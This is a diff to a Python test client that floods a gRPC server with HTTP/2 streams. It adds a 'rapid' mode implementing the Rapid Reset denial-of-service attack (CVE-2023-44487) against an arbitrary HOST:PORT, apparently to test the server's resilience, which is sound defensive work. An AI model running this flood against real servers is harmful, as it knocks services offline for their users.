@@ -1,7 +1,10 @@
 """A client that floods a gRPC server with HTTP/2 streams it never reads an
-answer on: `python -m tests.stream_flood unix:PATH SECONDS [reset|reconnect]`.
+answer on: `python -m tests.stream_flood unix:PATH SECONDS [reset|reconnect]`,
+or `python -m tests.stream_flood HOST:PORT SECONDS rapid`.
 `reset` keeps a connection and resets its streams once 800 are open;
-`reconnect` opens 16 streams on a connection and closes it, again and again.
+`reconnect` opens 16 streams on a connection and closes it, again and again;
+`rapid` resets each stream as soon as it is opened (CVE-2023-44487), on a new
+connection whenever the server closes one, and prints how many it opened.
 Each stream is a Play call the server has to take and find gone."""
 
 from __future__ import annotations
@@ -106,8 +109,41 @@ def flood(path: str, seconds: float) -> None:
         connection.close()
 
 
+def rapid_reset(address: str, seconds: float) -> int:
+    """Open Play streams on TCP connections to `address` (HOST:PORT) and reset
+    each at once, until `seconds` pass; returns how many were opened."""
+    host, port = address.rsplit(":", 1)
+    opened = 0
+    stop_at = time.monotonic() + seconds
+    while time.monotonic() < stop_at:
+        try:
+            connection = socket.create_connection((host, int(port)), timeout=5)
+            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
+        except OSError:
+            time.sleep(0.01)
+            continue
+        threading.Thread(target=_drain, args=(connection,), daemon=True).start()
+        stream = 1
+        try:
+            while stream < 2**31 - 2 * BATCH and time.monotonic() < stop_at:
+                ids = range(stream, stream + 2 * BATCH, 2)
+                opened_and_reset = (
+                    frame(HEADERS, END_HEADERS, i, PLAY_HEADERS) + frame(RST_STREAM, 0, i, CANCEL)
+                    for i in ids
+                )
+                connection.sendall(b"".join(opened_and_reset))
+                stream += 2 * BATCH
+                opened += BATCH
+        except OSError:
+            pass  # the server closed this connection: open another
+        connection.close()
+    return opened
+
+
 if __name__ == "__main__":
-    floods = {"reset": flood, "reconnect": reconnect}
-    floods[sys.argv[3] if len(sys.argv) > 3 else "reset"](
-        sys.argv[1].removeprefix("unix:"), float(sys.argv[2])
-    )
+    mode = sys.argv[3] if len(sys.argv) > 3 else "reset"
+    if mode == "rapid":
+        print(rapid_reset(sys.argv[1], float(sys.argv[2])))
+    else:
+        floods = {"reset": flood, "reconnect": reconnect}
+        floods[mode](sys.argv[1].removeprefix("unix:"), float(sys.argv[2]))
